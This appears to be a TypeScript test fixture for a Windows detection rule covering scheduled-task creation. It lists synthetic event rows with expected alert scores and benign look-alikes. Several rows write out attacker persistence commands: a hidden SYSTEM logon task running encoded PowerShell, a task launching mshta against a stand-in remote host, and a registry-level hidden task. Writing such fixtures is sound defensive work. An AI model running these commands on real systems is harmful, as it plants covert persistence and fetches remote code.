/** The tables of SecOpsWinScheduledTaskCreation. All values are synthetic. */
import { content, created, file, process, registered, value } from '../events.ts';
import type { Row } from './row.ts';

const TREE = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree';
const SYSTEM32 = 'C:\\Windows\\System32\\';
const TASKS = `${SYSTEM32}Tasks`;
const ENCODED = '-nop -w hidden -enc SQBFAFgA';

type Events = ReturnType<Row['events']>;

/** A row of one schtasks command; two blanks follow the name where cmd passes it on. */
function commanded(
  row: string,
  args: string,
  more: Omit<Row, 'row' | 'what' | 'telemetry' | 'events'> & {
    readonly event?: Parameters<typeof process>[1];
  },
): Row {
  const { event = {}, ...rest } = more;
  const telemetry = event.telemetry ?? 'sysmon/1';
  const events = (): Events => [process(`schtasks  ${args}`, event)];
  return { row, what: `\`schtasks ${args}\``, telemetry, events, ...rest };
}

/** What is told, and how high. */
export const positives: readonly Row[] = [
  {
    row: '1',
    what: `A user registers \`\\Updater\`: \`powershell.exe ${ENCODED}\` at every logon, hidden, \
as the local system`,
    telemetry: 'security/4698',
    events: hiddenPowershell,
    scores: [80],
  },
  commanded('2', '/create /tn OneDriveSync /sc minute /mo 5 /tr "C:\\Users\\Public\\od.exe" /f', {
    scores: [40],
    why: 'the program lies where every user can write',
  }),
  commanded(
    '3',
    `-create -sc onlogon -tn "\\p\\autorun" -tr "'C:\\x.exe' '--autorun'" -rl HIGHEST`,
    { scores: [35], why: 'a dash is as good as a slash' },
  ),
  commanded('4', '/"cr"eate /tn a /tr calc /sc once /st 23:59', {
    event: { telemetry: 'security/4688' },
    scores: [25],
    why: 'quotes inside an option vanish before schtasks reads it',
  }),
  {
    row: '5',
    what: 'A copy under another name: `svc.exe /create /xml C:\\Users\\Public\\t.xml /tn Svc`',
    telemetry: 'sysmon/1',
    events: () => [
      process('svc.exe /create /xml C:\\Users\\Public\\t.xml /tn Svc', {
        image: 'C:\\Users\\Public\\svc.exe',
        originalFileName: 'sctasks.exe',
      }),
    ],
    scores: [25],
    why: 'the record gives the name it was built under: `sctasks.exe`, later `schtasks.exe`',
  },
  {
    row: '6',
    what: 'rundll32 starts cmd, and cmd `schtasks /Create /f /XML C:\\Users\\u\\AppData\\Local\\\
Temp\\s.tmp /TN DataUsageHandlers`',
    telemetry: 'sysmon/1',
    events: droppedXml,
    scores: [25],
    why: 'what the task does stands in the file, which the record does not show',
  },
  {
    row: '9',
    what: 'A service account registers `\\FullPowersTask` with a list of privileges, and deletes \
it 1.4 s later',
    telemetry: 'security/4698, security/4699',
    events: serviceAccount,
    scores: [25],
    why: 'it is neither the local system nor a machine account: the base is that of a user',
  },
  commanded(
    '10',
    '/create /sc minute /mo 1 /tn "job" /tr ' +
      '"\\\\?\\GLOBALROOT\\Device\\Copy7\\Windows\\Temp\\svhost64.exe"',
    {
      event: { user: 'SYSTEM', domain: 'NT AUTHORITY' },
      scores: [30],
      why: 'by the local system, base 15, for a program in a place that users can write',
    },
  ),
  {
    row: '11',
    what: '`C:\\Tools\\GhostTask.exe` writes the value `SD` of a task below `TaskCache\\Tree`',
    telemetry: 'sysmon/13',
    events: () => [value(`${TREE}\\lilghostie\\SD`, { image: 'C:\\Tools\\GhostTask.exe' })],
    scores: [80],
    why: 'only the scheduler writes there, and no audit record followed',
  },
  commanded('12', '/Create /sc MINUTE /TN MSOFFICE_ /TR "mshta.exe https://host.example/i" /F', {
    event: { parentImage: `${SYSTEM32}mshta.exe` },
    scores: [70],
    why: 'started by mshta, runs mshta, and loads from elsewhere',
  }),
  {
    row: '13',
    what: '`at 13:20 /interactive cmd`',
    telemetry: 'sysmon/1',
    events: () => [process('at 13:20 /interactive cmd', { image: `${SYSTEM32}at.exe` })],
    scores: [25],
  },
  {
    row: '14',
    what: 'The scheduler logs that `\\Quiet` was registered, and no audit record follows',
    telemetry: 'taskscheduler/106',
    events: () => [registered('\\Quiet')],
    scores: [30],
    why: '5 points for the audit record that stayed out',
  },
  {
    row: '15',
    what: 'The scheduler writes a task file that is new, and nothing else follows',
    telemetry: 'sysmon/11',
    events: () => [file(`${TASKS}\\Corp\\Job`, { ageMs: 10_000 })],
    scores: [25],
    why: 'a file counts as new up to 10 s after its creation',
  },
  {
    row: '16',
    what: 'One creation leaves six records in four logs within 2 s',
    telemetry: 'sysmon/1, security/4688, taskscheduler/106, sysmon/13, sysmon/11, security/4698',
    events: seenBySix,
    scores: [25],
    why: 'one action is one alert: told at the first record, updated by the others',
  },
];

function hiddenPowershell(): Events {
  const definition = content({
    hidden: true,
    principals: [{ userId: 'S-1-5-18', runLevel: 'HighestAvailable', privileges: [] }],
    triggers: [{ type: 'LogonTrigger' }],
    steps: [{ type: 'exec', command: 'powershell.exe', arguments: ENCODED }],
  });
  return [created('\\Updater', { content: definition })];
}

function droppedXml(): Events {
  const command = '/Create /f /XML C:\\Users\\u\\AppData\\Local\\Temp\\s.tmp /TN DataUsageHandlers';
  const loader = { image: `${SYSTEM32}rundll32.exe`, pid: 31 };
  const shell = { image: `${SYSTEM32}cmd.exe`, pid: 32, parentPid: 31, atMs: 10 };
  const last = { pid: 33, parentPid: 32, parentImage: shell.image, atMs: 20 };
  return [
    process('rundll32.exe C:\\Users\\u\\a.dll,Run', loader),
    process(`cmd.exe /c schtasks ${command}`, shell),
    process(`schtasks  ${command}`, last),
  ];
}

function serviceAccount(): Events {
  const actor = { user: 'LOCAL SERVICE', domain: 'NT AUTHORITY' };
  const privileges = ['SeImpersonatePrivilege', 'SeAssignPrimaryTokenPrivilege'];
  const definition = content({ principals: [{ userId: 'LOCAL SERVICE', privileges }] });
  const removal = { telemetry: 'security/4699', action: 'delete', atMs: 1_400 } as const;
  return [
    created('\\FullPowersTask', { ...actor, content: definition }),
    created('\\FullPowersTask', { ...actor, ...removal }),
  ];
}

function seenBySix(): Events {
  const command = 'schtasks  /create /tn Updater /tr calc';
  return [
    process(command, { pid: 7, atMs: 0 }),
    process(command, { pid: 7, telemetry: 'security/4688', atMs: 1 }),
    registered('\\Updater', 40),
    value(`${TREE}\\Updater\\Id`, { atMs: 45 }),
    file(`${TASKS}\\Updater`, { atMs: 50 }),
    created('\\Updater', { clientPid: 7, atMs: 2_000 }),
  ];
}

const ONEDRIVE = 'C:\\Users\\u\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe';
const INTEGRATOR = 'C:\\Program Files\\Microsoft Office\\root\\integration\\integrator.exe';

/** What resembles a creation, and creations that are expected. */
export const lookAlikes: readonly Row[] = [
  {
    row: '1',
    what: 'Windows registers `\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Work` under its \
machine account',
    telemetry: 'security/4698',
    events: () => [
      created('\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Work', { user: 'WS1$' }),
    ],
    scores: [0],
    why: '15 less 30: the starter list expects the folder, from system accounts alone',
  },
  {
    row: '2',
    what: 'OneDrive registers `\\OneDrive Standalone Update Task-S-1-5-21-…` for its own updater',
    telemetry: 'security/4698',
    events: () => [
      created('\\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001', {
        content: content({ steps: [{ type: 'exec', command: ONEDRIVE }] }),
      }),
    ],
    scores: [10],
    why: '40 less 30: name and path of the program fit; with another program it stays 40',
  },
  commanded('3a', '/query /fo LIST /v', { scores: [], why: 'no creation' }),
  commanded('3b', '/run /tn x', { scores: [], why: 'no creation' }),
  commanded('3c', '/change /tn x /disable', { scores: [], why: 'no creation' }),
  commanded('3d', '/delete /tn x /f', { scores: [], why: 'no creation' }),
  commanded('4', '/create /?', { scores: [], why: 'help' }),
  {
    row: '5',
    what: '`cmd.exe /c schtasks /create /tn a /tr calc`, and the schtasks that it starts',
    telemetry: 'sysmon/1',
    events: () => [
      process('cmd.exe /c schtasks /create /tn a /tr calc', {
        image: `${SYSTEM32}cmd.exe`,
        pid: 1,
      }),
      process('schtasks  /create /tn a /tr calc', { pid: 2, parentPid: 1, atMs: 5 }),
    ],
    scores: [25],
    why: 'one alert: the shell only repeats what its child does',
  },
  {
    row: '6',
    what: '`notepad.exe "C:\\docs\\schtasks /create examples.txt"`',
    telemetry: 'sysmon/1',
    events: () => [
      process('notepad.exe "C:\\docs\\schtasks /create examples.txt"', {
        image: 'C:\\Windows\\notepad.exe',
      }),
    ],
    scores: [],
    why: 'another program',
  },
  {
    row: '7',
    what: 'A machine account deletes, enables, disables and updates a task',
    telemetry: 'security/4699, security/4700, security/4701, security/4702',
    events: otherAudits,
    scores: [],
    why: 'no creation; some services update their tasks every half hour',
  },
  commanded('8', '/Create /tn "Microsoft\\Office\\Office Performance Monitor" /XML "C:\\x.xml"', {
    event: { parentImage: INTEGRATOR },
    scores: [0],
    why: 'started by the integrator of Office: folder and path of the parent fit, 25 less 30',
  }),
  {
    row: '9',
    what: 'A management agent registers `\\Corp\\Enterprise\\Schedule #3` as the local system',
    telemetry: 'security/4698',
    events: () => [created('\\Corp\\Enterprise\\Schedule #3', { user: 'SYSTEM', sid: 'S-1-5-18' })],
    scores: [15],
    why: 'the base of a system account; an allow entry of your own takes it to 0',
  },
  commanded('10', '/query /tn create_report', { scores: [], why: '`create` is part of a name' }),
  {
    row: '11',
    what: 'The scheduler rewrites a task: its file, and the values `SD` and `Index` of its key',
    telemetry: 'sysmon/11, sysmon/13',
    events: () => [
      file(`${TASKS}\\Corp\\Job`, { ageMs: 10_001 }),
      value(`${TREE}\\Corp\\Job\\SD`, { atMs: 1 }),
      value(`${TREE}\\Corp\\Job\\Index`, { atMs: 2 }),
    ],
    scores: [],
    why: 'the file is older than 10 s, and of the values only `Id` is a sign of creation',
  },
  {
    row: '12',
    what: '`C:\\Windows\\Tasks\\SA.DAT`, and a file in another folder called `Tasks`',
    telemetry: 'sysmon/11',
    events: () => [
      file('C:\\Windows\\Tasks\\SA.DAT'),
      file('C:\\Windows\\assembly\\NativeImages\\Tasks\\x.dll', { atMs: 1 }),
    ],
    scores: [],
    why: 'neither file defines a task',
  },
];

function otherAudits(): Events {
  return (['delete', 'enable', 'disable', 'update'] as const).map((action, index) =>
    created('\\Microsoft\\Windows\\Licensing\\Restart', {
      user: 'WS1$',
      telemetry: `security/${4699 + index}`,
      action,
      atMs: index,
    }),
  );
}
